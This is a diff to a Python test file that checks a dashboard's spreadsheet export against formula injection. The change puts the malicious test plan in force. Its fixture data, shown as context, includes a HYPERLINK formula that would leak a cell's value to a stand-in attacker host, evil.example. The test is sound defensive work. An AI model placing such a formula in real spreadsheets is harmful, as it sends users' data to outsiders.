@@ -21,7 +21,7 @@ from dashboard.export.council import write_council_workbook
 from dashboard.export.safe import FORMULA_STARTS, csv_text, formula_like, put_text
 from dashboard.export.tables import table_csv, table_names
 from ivm.cli import main
-from ivm.wiring import load_any
+from ivm.wiring import activate_plan, load_any
 
 EVIL = {
     "title": '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
@@ -81,8 +81,8 @@ def test_xlsx_text_is_a_string_with_quote_prefix(tmp_path):
 @pytest.fixture(scope="module")
 def evil(demo_city, tmp_path_factory) -> Warehouse:
     """A copy of the demo city with formula-like titles, owner, partners, plan title, area
-    names and file names, loaded the ordinary way (`ivm load`) and approved after the demo's
-    revision (v2), so it is the plan in force."""
+    names and file names, loaded the ordinary way (`ivm load`) and put in force (`ivm plan
+    activate`)."""
     folder = tmp_path_factory.mktemp("evil")
     wh = Warehouse(folder / "evil.duckdb")
     shutil.copyfile(demo_city[0].path, wh.path)
@@ -101,6 +101,7 @@ def evil(demo_city, tmp_path_factory) -> Warehouse:
     for kind, name in (("areas", AREA_FILE), ("plan", PLAN_FILE)):
         result = load_any(wh, kind, str(folder / name), "canonical", False, {})
         assert result.counts.quarantined == 0, result.summary()
+    activate_plan(wh, "LIVP-EVIL")
     con = wh.connect_read_only()
     try:
         names = dict(con.execute("SELECT area_id, name FROM area").fetchall())
